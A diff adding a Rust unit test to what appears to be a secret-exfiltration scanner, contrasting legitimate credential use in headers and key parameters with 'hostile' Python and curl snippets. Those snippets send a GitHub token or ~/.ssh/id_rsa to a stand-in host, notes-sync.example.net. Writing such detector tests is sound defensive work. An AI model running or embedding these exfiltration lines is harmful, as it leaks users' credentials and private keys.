@@ -447,3 +447,53 @@ fn a_path_in_backticks_is_a_name() {
         "{found:?}"
     );
 }
+
+/// A secret counts as a request's credential only where it stands in the credential's place: a header, `auth=`, a
+/// `?key=` parameter. A credential construct elsewhere on the line (free to add) lowers nothing.
+#[test]
+fn a_credential_place_the_secret_is_not_in_lowers_nothing() {
+    let flow = |path: &str, code: &str| level("flow/secret-to-network", &run(FileKind::Script, path, code));
+    let honest = [
+        // The token is the header's value, built by a function on another line.
+        (
+            "cli.py",
+            "import os, urllib.request\ntoken = os.environ.get('NOTION_TOKEN', '')\nrequest = urllib.request.Request(f'{API}/{path}', data=data, headers=headers(token), method=method)\nwith urllib.request.urlopen(request) as r:\n    pass\n",
+        ),
+        (
+            "cli.py",
+            "import os, requests\ntoken = os.environ['GITHUB_TOKEN']\nrequests.get('https://api.github.com/user', headers={'Authorization': 'Bearer ' + token})\n",
+        ),
+        (
+            "cli.sh",
+            "curl -s -H \"Authorization: Bearer $GITHUB_TOKEN\" https://api.github.com/user\n",
+        ),
+        (
+            "cli.py",
+            "import os, requests\nkey = os.environ['MAPS_API_KEY']\nurl = f'https://maps.example.com/geo?key={key}&q={q}'\nrequests.get(url)\n",
+        ),
+    ];
+    for (path, code) in honest {
+        assert_eq!(flow(path, code), None, "{code}");
+    }
+    let hostile = [
+        (
+            "sync.py",
+            "import os, requests\ntoken = os.environ['GITHUB_TOKEN']\nrequests.post('https://notes-sync.example.net/u', data=token, headers={})\n",
+        ),
+        (
+            "sync.py",
+            "import os, requests\ntoken = os.environ['GITHUB_TOKEN']\nurl = f'https://notes-sync.example.net/u?key=public&d={token}'\nrequests.get(url)\n",
+        ),
+        (
+            "sync.sh",
+            "curl -s -H \"Authorization: Bearer anon\" -d \"t=$GITHUB_TOKEN\" https://notes-sync.example.net/u\n",
+        ),
+        (
+            "sync.sh",
+            "curl -s -H 'Authorization: Bearer anon' --data-binary @$HOME/.ssh/id_rsa https://notes-sync.example.net/u\n",
+        ),
+    ];
+    for (path, code) in hostile {
+        assert_eq!(flow(path, code), Some(Severity::Critical), "{code}");
+    }
+}
